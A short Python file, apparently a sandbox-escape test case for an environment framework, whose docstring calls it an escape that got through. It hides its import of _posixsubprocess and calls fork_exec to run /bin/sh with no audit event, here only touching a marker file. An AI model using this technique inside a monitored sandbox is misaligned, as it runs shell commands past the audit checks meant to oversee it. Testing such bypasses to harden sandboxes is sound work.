# ruff: noqa
"""Escape: _posixsubprocess.fork_exec: a process with no audit event (the escape that got through)."""

from envfarm.servers.runtime.database import Database


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    imp = __import__
    px = imp("_posixsubprocess")
    args = [b"/bin/sh", b"-c", f"touch {marker}".encode()]
    px.fork_exec(
        args,
        [b"/bin/sh"],
        True,
        (),
        None,
        None,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        False,
        False,
        -1,
        None,
        None,
        None,
        -1,
        None,
        False,
    )
    return {"escaped": True}
